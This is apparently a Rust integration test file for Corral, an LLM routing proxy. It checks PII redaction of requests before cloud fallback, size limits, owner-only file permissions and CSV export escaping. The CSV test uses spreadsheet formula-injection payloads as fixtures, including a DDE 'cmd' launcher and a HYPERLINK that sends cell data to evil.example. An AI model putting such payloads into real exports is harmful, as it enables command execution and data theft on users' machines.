//! Issue 12, finding 4 and the redaction, file-mode and CSV parts of finding 12: redaction is
//! linear in its input and runs off the async workers, covers every text field that leaves and
//! the common international formats, is bounded per request (413), the store and the config
//! files Corral writes are the owner's only, and `corral history --format csv` cannot carry a
//! formula into a spreadsheet.
//!
//! The one timing ratio asserted in the suite lives here (`redaction_time_grows_linearly`): best
//! of three runs per size, so a busy machine makes it slower, not flaky.

mod common;

use std::time::Duration;

use common::{cluster, ndjson};
use corral::config::{CategoryConfig, CloudPermission, ProviderConfig};
use corral::redact::Redactor;
use corral::sim::{SimNode, SimSpec};
use serde_json::{json, Value};
use tokio::time::Instant;

/// About `bytes` of text that is nothing but distinct e-mail addresses, as in the finding.
fn addresses(bytes: usize) -> String {
    let mut s = String::with_capacity(bytes + 32);
    let mut i = 0;
    while s.len() < bytes {
        s.push_str(&format!("user{i}@example.com "));
        i += 1;
    }
    s
}

/// About `bytes` of mixed text: prose, addresses, phones, cards, IDs, SSNs and IBANs.
fn mixed(bytes: usize) -> String {
    let mut s = String::with_capacity(bytes + 256);
    let mut i = 0u64;
    while s.len() < bytes {
        s.push_str(&format!(
            "Dear customer {i}, write to c{i}@mail.example.org or call (415) 555-{:04} or 138{:08}; \
             card 4111 1111 1111 1111, ssn 123-45-{:04}, iban DE89 3704 0044 0532 0130 00. [EMAIL_x] ok. ",
            i % 10_000,
            i % 100_000_000,
            1 + i % 9_999,
        ));
        i += 1;
    }
    s
}

/// Best of three: the time one request's redaction of `text` takes.
fn redaction_time(text: &str) -> Duration {
    (0..3)
        .map(|_| {
            let started = Instant::now();
            let mut r = Redactor::new([text]);
            let out = r.redact(text);
            assert!(r.masked() > 0 && out.len() > text.len() / 4, "it did mask");
            started.elapsed()
        })
        .min()
        .unwrap_or_default()
}

#[test]
fn the_findings_896_kb_of_addresses_no_longer_take_tens_of_seconds() {
    let text = addresses(896 * 1024);
    let took = redaction_time(&text);
    println!("896 KB of e-mail addresses: redacted in {took:?} (was 26 s)");
    // The real guard is the scaling test below; this bound only catches the quadratic scan of
    // the finding (26 s in release, minutes in a debug build) with room for a loaded CI box.
    assert!(took < Duration::from_secs(15), "redaction must be linear; 896 KB took {took:?}");
}

#[test]
fn redaction_time_grows_linearly() {
    for (name, make) in [("addresses", addresses as fn(usize) -> String), ("mixed", mixed)] {
        let small = redaction_time(&make(1 << 20));
        let large = redaction_time(&make(4 << 20));
        let ratio = large.as_secs_f64() / small.as_secs_f64().max(1e-6);
        println!("{name}: 1 MiB in {small:?}, 4 MiB in {large:?}, ratio {ratio:.2} (linear is 4)");
        assert!(ratio < 6.0, "{name}: 4x the input took {ratio:.2}x the time: not linear");
    }
}

async fn cloud_sim(echo: bool) -> SimNode {
    let spec = SimSpec { models: vec!["gpt-4o-mini".into()], cloud: true, echo, ..SimSpec::default() };
    SimNode::start(spec).await.expect("cloud sim starts")
}

/// One stopped local node; `support` falls back to the cloud sim with redaction (text bound
/// `max` bytes), `default` falls back without.
async fn setup(cloud: &SimNode, max: usize) -> common::Cluster {
    let provider = ProviderConfig {
        name: "cloudsim".into(),
        base_url: format!("{}/v1", cloud.url()),
        model_map: [("*".to_string(), "gpt-4o-mini".to_string())].into(),
        ..ProviderConfig::default()
    };
    let c = cluster(1)
        .config(move |cfg| {
            cfg.categories[0].cloud = CloudPermission::OnFailure;
            cfg.categories[0].providers = vec!["cloudsim".into()];
            cfg.categories.push(CategoryConfig {
                name: "support".into(),
                cloud: CloudPermission::OnFailure,
                providers: vec!["cloudsim".into()],
                redact: true,
                redact_max_bytes: max,
                ..CategoryConfig::default()
            });
            cfg.providers = vec![provider];
        })
        .start()
        .await;
    c.sims[0].stop();
    c
}

async fn send(c: &common::Cluster, category: &str, path: &str, body: &Value) -> reqwest::Response {
    c.client.post(c.url(path)).header("x-corral-category", category).json(body).send().await.expect("answer")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_large_redactions_do_not_hold_the_admin_healthz() {
    let cloud = cloud_sim(false).await;
    let c = setup(&cloud, 1 << 20).await;
    // A context large enough that the context guard lets the prompt through.
    let body = json!({"model": "llama3.2", "stream": false, "options": {"num_ctx": 1_000_000},
        "messages": [{"role": "user", "content": addresses(896 * 1024)}]});
    let started = Instant::now();
    let requests: Vec<_> = (0..2)
        .map(|_| {
            let (client, url, body) = (c.client.clone(), c.url("/api/chat"), body.clone());
            tokio::spawn(async move {
                let r = client.post(url).header("x-corral-category", "support").json(&body).send().await;
                r.map(|r| r.status().as_u16()).unwrap_or(0)
            })
        })
        .collect();
    let (mut polls, mut worst) = (0, Duration::ZERO);
    while polls < 5 || !requests.iter().all(|r| r.is_finished()) {
        let t = Instant::now();
        let r = tokio::time::timeout(Duration::from_secs(1), c.client.get(c.admin_url("/healthz")).send()).await;
        let took = t.elapsed();
        assert!(matches!(&r, Ok(Ok(r)) if r.status() == 200), "/healthz did not answer within 1 s ({took:?})");
        worst = worst.max(took);
        polls += 1;
        assert!(started.elapsed() < Duration::from_secs(60), "the two requests never ended");
    }
    for r in requests {
        assert_eq!(r.await.expect("request task"), 200, "both were answered by the cloud");
    }
    println!(
        "two 896 KB redactions: done in {:?}; /healthz answered {polls} times, slowest {worst:?}",
        started.elapsed()
    );
    assert_eq!(cloud.count("/v1/chat/completions"), 2);
}

/// Every value in `secrets` must be absent from what the cloud received.
fn assert_hidden(cloud: &SimNode, secrets: &[&str]) {
    let received = cloud.received();
    assert!(!received.is_empty(), "the cloud got the request");
    for r in received {
        let body = r.body.unwrap_or_default();
        for s in secrets {
            assert!(!body.contains(s), "{s} reached the cloud: {body}");
        }
    }
}

#[tokio::test]
async fn every_text_field_of_a_v1_chat_is_masked_before_it_leaves() {
    let cloud = cloud_sim(false).await;
    let c = setup(&cloud, 1 << 20).await;
    let body = json!({
        "model": "llama3.2", "user": "owner@corp.example", "metadata": {"ticket": "call 212-555-0147"},
        "messages": [
            {"role": "user", "name": "ann@corp.example", "content": [{"type": "text", "text": "ssn 219-09-9998"}]},
            {"role": "assistant", "content": null, "tool_calls": [{"id": "c1", "type": "function",
                "function": {"name": "transfer", "arguments": "{\"iban\":\"GB82 WEST 1234 5698 7654 32\"}"}}]},
            {"role": "tool", "tool_call_id": "c1", "content": "sent to bob@corp.example"},
        ],
        "tools": [{"type": "function", "function": {"name": "transfer", "description": "from NL91ABNA0417164300",
            "parameters": {"type": "object", "properties": {"iban": {"type": "string"}}}}}],
        "response_format": {"type": "json_schema", "json_schema": {"name": "r",
            "schema": {"type": "object", "description": "cc carol@corp.example"}}},
    });
    let r = send(&c, "support", "/v1/chat/completions", &body).await;
    assert_eq!(r.status(), 200, "{}", r.text().await.unwrap_or_default());
    assert_hidden(
        &cloud,
        &["owner@corp", "212-555-0147", "ann@corp", "219-09-9998", "GB82 WEST", "bob@corp", "NL91ABNA", "carol@corp"],
    );
    let sent: Value = serde_json::from_str(&cloud.received()[0].body.clone().unwrap_or_default()).expect("json");
    assert_eq!(sent["tools"][0]["function"]["name"], "transfer", "function names are left for the provider");
}

#[tokio::test]
async fn native_format_tool_arguments_system_prompt_and_inputs_are_masked() {
    let cloud = cloud_sim(false).await;
    let c = setup(&cloud, 1 << 20).await;
    let chat = json!({"model": "llama3.2", "stream": false,
    "format": {"type": "object", "properties": {"to": {"type": "string", "enum": ["dan@corp.example"]}}},
    "messages": [
        {"role": "user", "content": "hi"},
        {"role": "assistant", "content": "", "tool_calls": [{"function": {"name": "pay",
            "arguments": {"iban": "DE89370400440532013000", "phone": "+1 (415) 555-2671"}}}]},
    ]});
    let generate = json!({"model": "llama3.2", "stream": false, "system": "agent eve@corp.example",
        "prompt": "ssn 536-22-8725"});
    let embed = json!({"model": "llama3.2", "input": ["fay@corp.example", "BE71 0961 2345 6769"]});
    for (path, body) in [("/api/chat", chat), ("/api/generate", generate), ("/api/embed", embed)] {
        let r = send(&c, "support", path, &body).await;
        assert_eq!(r.status(), 200, "{path}: {}", r.text().await.unwrap_or_default());
    }
    assert_eq!(cloud.received().len(), 3);
    assert_hidden(
        &cloud,
        &["dan@corp", "DE89370400440532013000", "555-2671", "eve@corp", "536-22-8725", "fay@corp", "BE71 0961"],
    );
}

#[tokio::test]
async fn us_phones_ssns_and_ibans_come_back_exactly_as_sent() {
    let cloud = cloud_sim(true).await;
    let c = setup(&cloud, 1 << 20).await;
    let said = "Call (415) 555-2671 or 212.555.0147, SSN 536-22-8725, IBAN GB82 WEST 1234 5698 7654 32.";
    for stream in [true, false] {
        let body = json!({"model": "llama3.2", "stream": stream, "messages": [{"role": "user", "content": said}]});
        let text = send(&c, "support", "/api/chat", &body).await.text().await.expect("body");
        let answer: String = if stream {
            ndjson(&text).iter().filter_map(|l| l["message"]["content"].as_str().map(str::to_string)).collect()
        } else {
            serde_json::from_str::<Value>(&text).expect("json")["message"]["content"].as_str().unwrap_or("").into()
        };
        assert_eq!(answer, said, "placeholders restored (stream: {stream})");
    }
    assert_hidden(&cloud, &["555-2671", "555.0147", "536-22-8725", "GB82 WEST"]);
}

#[tokio::test]
async fn text_over_redact_max_bytes_is_a_413_and_never_leaves() {
    let cloud = cloud_sim(false).await;
    let c = setup(&cloud, 4096).await;
    let big = json!({"model": "llama3.2", "stream": false,
        "messages": [{"role": "user", "content": addresses(8192)}]});
    let r = send(&c, "support", "/api/chat", &big).await;
    assert_eq!(r.status(), 413);
    let v: Value = r.json().await.expect("json error");
    assert_eq!(v["code"], "redact_too_large", "{v}");
    let msg = v["error"].as_str().unwrap_or_default();
    assert!(msg.contains("redact_max_bytes") && msg.contains("4096"), "says which limit: {msg}");
    assert_eq!(cloud.received().len(), 0, "nothing went to the cloud");

    let small = json!({"model": "llama3.2", "stream": false, "messages": [{"role": "user", "content": "a@b.io"}]});
    assert_eq!(send(&c, "support", "/api/chat", &small).await.status(), 200, "under the bound it falls back");
    assert_eq!(send(&c, "default", "/api/chat", &big).await.status(), 200, "no bound without redaction");
}

#[cfg(unix)]
fn mode(path: &std::path::Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(path).unwrap_or_else(|e| panic!("{}: {e}", path.display())).permissions().mode() & 0o777
}

fn fresh_dir(name: &str) -> std::path::PathBuf {
    let dir = std::env::temp_dir().join(format!("corral-trust-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

/// A store at `path` holding `rows`, flushed, then closed.
async fn store_with(path: &std::path::Path, rows: Vec<corral::store::RequestRow>) {
    let config = corral::config::StoreConfig { path: Some(path.display().to_string()), ..Default::default() };
    let cancel = tokio_util::sync::CancellationToken::new();
    let (store, tasks) = corral::store::Store::open(&config, cancel.clone()).await.expect("store opens");
    let writer = tokio::spawn(tasks.writer);
    let n = rows.len();
    rows.into_iter().for_each(|r| store.finished(r));
    cancel.cancel();
    writer.await.expect("writer drains and stops");
    let got = store.requests(&corral::store::Query::default()).await.expect("query");
    assert!(got.len() >= n, "the writer flushed every row before stopping: {} of {n}", got.len());
}

#[cfg(unix)]
#[tokio::test]
async fn the_store_directory_is_0700_and_its_files_0600() {
    let dir = fresh_dir("store").join("data");
    let db = dir.join("corral.db");
    let row = corral::store::RequestRow { id: "r1".into(), status: "ok".into(), ..Default::default() };
    store_with(&db, vec![row]).await;
    assert_eq!(mode(&dir), 0o700, "the data directory it created");
    for f in ["corral.db", "corral.db-wal", "corral.db-shm"] {
        let p = dir.join(f);
        if f == "corral.db" || p.exists() {
            assert_eq!(mode(&p), 0o600, "{f}");
        }
    }
    assert!(dir.join("corral.db-wal").exists(), "WAL mode leaves a -wal file to check");

    // An older install's world-readable files are fixed on the next open.
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&db, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    store_with(&db, Vec::new()).await;
    assert_eq!(mode(&db), 0o600, "reopened store");
}

fn corral(args: &[&str]) -> std::process::Output {
    std::process::Command::new(env!("CARGO_BIN_EXE_corral")).args(args).output().expect("corral runs")
}

#[cfg(unix)]
#[test]
fn config_files_corral_writes_are_0600_in_0700_directories() {
    let dir = fresh_dir("config");
    std::fs::create_dir_all(&dir).expect("temp dir");
    let own = dir.join("corral.toml");
    std::fs::write(&own, "[[nodes]]\nname = \"n0\"\nurl = \"http://127.0.0.1:9\"\n").expect("write");
    let out = dir.join("new").join("shared.toml");
    let export =
        corral(&["config", "export", "--config", &own.display().to_string(), "--out", &out.display().to_string()]);
    assert!(export.status.success(), "{}", String::from_utf8_lossy(&export.stderr));
    assert_eq!(mode(&out), 0o600, "exported file");
    assert_eq!(mode(&dir.join("new")), 0o700, "the directory export created");

    let target = dir.join("made").join("corral.toml");
    let (out, target_s) = (out.display().to_string(), target.display().to_string());
    let import = corral(&["config", "import", &out, "--config", &target_s, "--accept-trust-changes"]);
    assert!(import.status.success(), "{}", String::from_utf8_lossy(&import.stderr));
    assert_eq!(mode(&target), 0o600, "imported config");
    assert_eq!(mode(&dir.join("made")), 0o700, "the directory import created");
}

#[tokio::test]
async fn history_csv_cells_never_start_a_formula() {
    let db = fresh_dir("csv").join("history.db");
    let now = corral::store::now_ms();
    let row = corral::store::RequestRow {
        id: "r1".into(),
        started_at: now,
        endpoint: "@SUM(A1:A9)".into(),
        category: "+cmd|' /C calc'!A0".into(),
        model: "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")".into(),
        error_code: Some("-2+3".into()),
        node: Some("\tn0".into()),
        status: "ok".into(),
        attempts: 1,
        ttfb_ms: Some(-1),
        ..Default::default()
    };
    store_with(&db, vec![row]).await;
    let out = corral(&["history", "--db", &db.display().to_string(), "--since", "1h", "--format", "csv"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().expect("a header").clone();
    let record = reader.records().next().expect("one row").expect("csv");
    let cell = |name: &str| record.get(headers.iter().position(|h| h == name).expect("column")).unwrap_or("");
    assert_eq!(cell("model"), "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
    assert_eq!(cell("endpoint"), "'@SUM(A1:A9)");
    assert_eq!(cell("category"), "'+cmd|' /C calc'!A0");
    assert_eq!(cell("error_code"), "'-2+3");
    assert_eq!(cell("node"), "'\tn0");
    assert_eq!(cell("ttfb_ms"), "-1", "numbers stay numbers");
    assert_eq!(cell("status"), "ok");
}
